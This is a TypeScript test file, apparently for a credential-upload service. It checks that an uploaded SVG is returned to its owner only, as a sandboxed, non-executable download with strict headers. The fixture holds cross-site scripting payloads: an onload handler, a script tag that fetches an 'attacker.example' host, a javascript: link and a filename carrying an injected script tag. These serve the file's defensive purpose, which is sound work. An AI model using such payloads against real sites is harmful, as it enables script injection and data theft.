import { beforeAll, describe, expect, it, vi } from 'vitest';
import type { SignedIn } from '#server/api/context.ts';
import { answerOriginal } from '#server/api/http/original-endpoint.ts';
import { makePerson } from '#tests/support/people.ts';
import { bakedSvg } from '#tests/support/signing/index.ts';
import { fileForm, handIn, issue, openDesk, type Person } from '../credentials/desk.ts';

/* The file as it was handed in is given back as a download that can run nothing in our origin. */

// A session is read from a request that Next answers, which there is none of here.
const session = vi.hoisted(() => ({ person: null as SignedIn | null }));
vi.mock('#server/api/auth/session.ts', () => ({ getSignedIn: async () => session.person }));

openDesk();

let ada: Person;
let candidateId = '';
let credentialId = '';
let drawing = '';

beforeAll(async () => {
  ada = await makePerson('Ada');
  const token = Buffer.from((await issue(ada.email)).bytes).toString();
  const script = '<script>fetch("https://attacker.example/")</script><a href="javascript:alert(1)"/><path';
  drawing = bakedSvg(token).replace('<svg ', '<svg onload="alert(1)" ').replace('<path', script);
  const item = await handIn(ada, fileForm(drawing, '"><script>x</script>.svg', 'image/svg+xml'));
  candidateId = ada.accountId;
  credentialId = item.credential?.id ?? '';
});

const ask = (person: Person | null) => {
  session.person =
    person === null ? null : { accountId: person.accountId, email: person.email, name: person.name };
  const params = Promise.resolve({ candidateId, credentialId });
  return answerOriginal(new Request('http://localhost:3000/'), { params });
};

describe('a drawing with scripts', () => {
  it('comes back word for word, as a download that runs nothing', async () => {
    const answer = await ask(ada);
    expect(await answer.text()).toBe(drawing);
    expect(answer.status).toBe(200);
    const { headers } = answer;
    expect(headers.get('content-type')).toBe('application/octet-stream');
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[\w%.-]+$/);
    expect(headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('cache-control')).toContain('no-store');
  });

  it('is given to its holder, and to nobody else', async () => {
    expect((await ask(null)).status).toBe(404);
    expect((await ask(await makePerson('Bob'))).status).toBe(404);
    await ada.api.credentials.share({ id: credentialId, publicLink: true });
    expect((await ask(null)).status).toBe(404);
  });
});
